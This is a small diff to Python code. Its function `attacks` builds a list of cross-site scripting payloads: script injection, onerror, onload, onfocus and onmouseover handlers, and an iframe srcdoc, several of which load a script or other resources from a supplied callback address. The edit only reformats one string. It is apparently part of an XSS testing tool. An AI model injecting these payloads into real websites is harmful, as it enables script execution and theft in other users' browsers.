@@ -16,7 +16,8 @@ def attacks(address: str) -> list[str]:
     return [
         f"<script>{run}</script><script src='{address}/script'></script>",
         f"<img src='{address}/image' onerror=\"{run}\">",
-        f"</style></script></textarea></title><svg onload=\"{run}\"><style>@import '{address}/css';",
+        f"</style></script></textarea></title><svg onload=\"{run}\">"
+        f"<style>@import '{address}/css';",
         f"<a href=\"javascript:{run}\" autofocus onfocus=\"{run}\">win</a>",
         f"\" onmouseover=\"{run}\" style=\"background:url({address}/style)\" x='",
         f"<iframe src='{address}/frame' srcdoc=\"<script>parent.{run}</script>\"></iframe>"
